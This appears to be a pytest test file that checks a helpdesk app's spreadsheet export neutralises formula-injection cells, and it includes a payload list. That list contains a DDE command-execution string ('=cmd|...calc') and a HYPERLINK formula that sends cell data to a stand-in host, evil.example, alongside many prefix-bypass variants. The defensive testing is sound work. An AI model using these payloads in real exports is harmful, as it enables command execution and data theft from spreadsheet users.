"""Exports hold no formula, whatever the cells say (trust.md, T47), and are read back whole."""

import csv
import io

import pytest

from helpdesk.reports import spreadsheet

RUNS = [
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1",
    "＠A1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", ";=1+1", ",=1+1", '"=1+1', "'=1+1", "\x00=1",
    "\x1f=1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "|calc", "%0A=1", "\tHello", "\rHello", "-", "--1", "+",
    "=\r\n1", "\"\t=2",
]  # fmt: skip
HARMLESS = ["Payment", "a=b", "1-2", "me@example.org", "", "Éléphant", "x;=1", "O’Brien", "20 % off", "c'est", "’"]


@pytest.mark.parametrize("cell", RUNS)
def test_what_could_run_stands_behind_an_apostrophe(cell: str) -> None:
    assert spreadsheet.safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [*HARMLESS, 12, 0, -3, None])
def test_all_else_stays_as_it_is(cell: spreadsheet.Cell) -> None:
    assert spreadsheet.safe(cell) == cell


@pytest.mark.parametrize(("language", "separator"), [("en", ","), ("fr", ";"), ("sv", ";"), ("es", ";")])
def test_a_file_is_read_back_whole(language: str, separator: str) -> None:
    text = spreadsheet.written(["=Tag", "Closed"], [[cell, 3] for cell in [*RUNS, *HARMLESS]], language)

    assert text.encode().startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator, strict=True))
    assert rows[0] == ["'=Tag", "Closed"]
    assert rows[1:] == [[str(spreadsheet.safe(cell)), "3"] for cell in [*RUNS, *HARMLESS]]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_runs_whatever_a_spreadsheet_takes_for_the_separator(separator: str) -> None:
    """Every text is quoted, so that no other separator inside it begins a cell."""
    text = spreadsheet.written(["Tag"], [[cell] for cell in RUNS], "en")
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator, strict=True):
        assert len(row) == 1
        assert row[0][:1] in {"'", "T"}
